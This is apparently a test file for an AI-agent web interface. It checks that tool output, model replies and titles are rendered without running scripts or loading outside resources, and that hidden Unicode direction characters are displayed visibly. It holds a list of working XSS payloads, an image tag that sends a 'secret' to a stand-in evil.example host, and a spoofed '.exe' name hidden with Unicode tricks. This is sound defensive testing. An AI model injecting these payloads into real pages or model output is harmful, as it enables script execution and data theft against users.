import { expect, test } from "vitest"
import { z } from "zod"
import { answer, defineTool } from "../../core/engine/definition/tool.ts"
import { calls, replies, says } from "../../core/models/scripted/script.ts"
import { scripted } from "../../core/models/scripted/model.ts"
import { oneVisit } from "./browser/one-visit.ts"
import { go, reopen, say } from "./browser/talk.ts"

const EVIL = "http://evil.example"

/** All known attempts to make a page act, in one text. */
const POISON = [
  `<script>alert(1)</script>`,
  `<img src=x onerror="alert(2)">`,
  `<iframe src="${EVIL}/frame"></iframe><object data="${EVIL}/object"></object>`,
  `<svg onload=alert(3)><style>@import url("${EVIL}/style.css")</style></svg>`,
  `![pixel](${EVIL}/pixel.png?secret=1)`,
  `![data](data:image/svg+xml;base64,PHN2Zy8+)`,
  `[click](javascript:alert(4)) [data](data:text/html,<script>alert(5)</script>) [own](/api/auth/sign-out) [vb](vbscript:x)`,
  `[bank](${EVIL}/login)`,
  `<a href="javascript:alert(6)">raw</a> <form action="${EVIL}/form"><input name=a><button>go</button></form>`,
  `[ref]: javascript:alert(7)\n\n[ref] ![image][pic]\n\n[pic]: ${EVIL}/ref.png`,
  `<base href="${EVIL}/"><link rel="stylesheet" href="${EVIL}/x.css"><meta http-equiv="refresh" content="0;url=${EVIL}">`,
  "```html\n<script>alert(8)</script>\n```",
  `[^1]\n\n[^1]: <img src="${EVIL}/foot.png">`,
].join("\n\n")

const HIDDEN = "invoice\u202Efdp.exe\u200B\u2066x\u2069\u{E0041}\u0007"

/** Characters that change the text direction, in every part of a reply. */
const TURNED = [
  "A paragraph \u202Eof words **that \u202Dare** strong, [a \u202Elink](http://evil.example/x) and `co\u2066de`.",
  "# A \u202Bheading",
  "- an \u2067item",
  "| a \u202Ecell | b |\n|---|---|\n| c\u202E | \u2068d |",
  "```js\nif (a) { /* \u202E } \u2066if (b) \u2069 \u2066 */ }\n```",
  "![words \u202Eof an image](http://evil.example/y.png)",
].join("\n\n")
/** Embeddings and isolates that are closed correctly, and single marks, as used in Hebrew and Arabic. */
const REAL = "שלום \u2066Pawl 2.0\u2069 עולם\u200F! مرحبا \u202Bبالعالم\u202C\u061C."

const poisonous = defineTool({
  name: "read_web_page",
  description: "For tests.",
  input: z.looseObject({}),
  effect: "read",
  afterCrash: "run-again",
  run: () =>
    answer(POISON, {
      data: {
        kind: "table",
        columns: [POISON, HIDDEN],
        rows: [
          [POISON, HIDDEN],
          [`<b onclick=alert(9)>x</b>`, 1],
        ],
      },
    }),
})

const write = defineTool({
  name: "send_mail",
  description: "For tests.",
  input: z.looseObject({}),
  effect: "write",
  inverse: false,
  afterCrash: "in-doubt",
  preview: () => ({
    summary: `${HIDDEN} ${POISON.slice(0, 300)}`,
    action: "destructive_update",
    diff: { before: { [HIDDEN]: POISON, __proto__: { a: 1 } }, after: { [HIDDEN]: `${POISON} changed` } },
  }),
  run: () => answer(POISON, { data: { kind: "unheard-of", html: POISON } }),
})

/** The addresses that the page's own links may have. */
const PAGES = /^\/($|(inbox|tasks|projects|notes|library|audit|settings|clients)$|c\/[^/]+(\/run-of\/[^/]+)?$)/

const visit = oneVisit({ tools: [poisonous, write] })

test("text of models, tools and titles cannot run scripts or load resources, and hidden characters are drawn", async () => {
  const model = scripted(
    replies(says(POISON), calls("read_web_page", { [HIDDEN]: POISON })),
    replies(says("And now:"), calls("send_mail", { to: HIDDEN, body: POISON })),
    says(`${POISON}\n\n${TURNED}\n\n${REAL}\n\nThe end.`),
  )
  const { site, ada, page, faults } = await visit.begin(model)
  const id = await ada.begin({ agent: "test", title: `${HIDDEN}<img src=x onerror=alert(1)>` })
  await go(page, `/c/${id}`)
  await say(page, `${POISON}\n${TURNED}`)
  const card = page.getByRole("article", { name: /U\+202E/ })
  await card.getByRole("button", { name: "Show the full text" }).click()
  // Invisible characters are written out, in the card and in the title.
  for (const code of ["U+202E", "U+200B", "U+2066", "U+E0041"])
    await expect.poll(() => card.innerText()).toContain(code)
  expect(await page.getByRole("heading", { level: 1 }).innerText()).toContain("U+202E")
  await card.getByRole("button", { name: "Approve", exact: true }).click()
  await page.getByText("The end.").waitFor()
  await page.evaluate("document.querySelectorAll('details').forEach((each) => (each.open = true))")

  // Characters that reverse the text after them are written out; real Hebrew and Arabic is unchanged.
  const drawn = (await page.evaluate("document.body.innerText")) as string
  expect(drawn).toContain(REAL)
  expect(drawn.replaceAll(REAL, "").match(/.{0,30}[\u202A-\u202E\u2066-\u2069].{0,10}/g)).toBeNull()
  for (const code of ["⟨U+202E⟩link", "A ⟨U+202B⟩heading", "c⟨U+202E⟩", "⟨U+2067⟩item"]) expect(drawn).toContain(code)
  // None of its elements exists, and every external link needs a click by the person.
  const made = await page.evaluate(
    "[...document.querySelectorAll('#page :is(script, iframe, object, embed, img, style, link, base, meta, form[action])')].map((each) => each.outerHTML)",
  )
  expect(made).toEqual([])
  const links = (await page.evaluate(
    "[...document.querySelectorAll('#page a[href]')].map(({ href, target, rel, innerText }) => ({ href, target, rel, innerText }))",
  )) as { href: string; target: string; rel: string; innerText: string }[]
  const outside = links.filter(({ href }) => !href.startsWith(site.url))
  expect(outside.length).toBeGreaterThan(0)
  for (const { href, target, rel, innerText } of outside) {
    expect(href).toMatch(/^(https?:|mailto:)/)
    expect([target, rel]).toEqual(["_blank", "noopener noreferrer"])
    expect(innerText).toContain("evil.example")
  }
  // Links to this server are the page's own navigation; a model's text contains none.
  const own = links.filter(({ href }) => href.startsWith(site.url)).map(({ href }) => new URL(href))
  for (const { pathname } of own) expect(pathname).toMatch(PAGES)
  expect(await page.locator(`.prose a[href^="/"], .prose a[href^="${site.url}"]`).count()).toBe(0)
  await reopen(page)
  await page.getByText("The end.").waitFor()
  expect(faults).toEqual([])
})

test("the page's own policy blocks what would get past it", async () => {
  const { page, faults } = await visit.begin(scripted())
  const outcome = await page.evaluate(`(async () => {
    const script = document.createElement("script")
    script.textContent = "window.ran = true"
    document.body.append(script)
    // In a timeout, because the policy does not apply to code that the debugger runs.
    const evaluated = await new Promise((resolve) => setTimeout(() => {
      try { resolve(new Function("return true")()) } catch { resolve(false) }
    }))
    const fetched = await fetch(${JSON.stringify(EVIL)}).then(() => true, () => false)
    const image = new Image()
    const loaded = await new Promise((resolve) => {
      image.onload = () => resolve(true)
      image.onerror = () => resolve(false)
      image.src = ${JSON.stringify(`${EVIL}/x.png`)}
    })
    return { ran: window.ran === true, evaluated, fetched, loaded }
  })()`)
  expect(outcome).toEqual({ ran: false, evaluated: false, fetched: false, loaded: false })
  expect(faults.filter((fault) => fault.startsWith("left:"))).toEqual([])
})
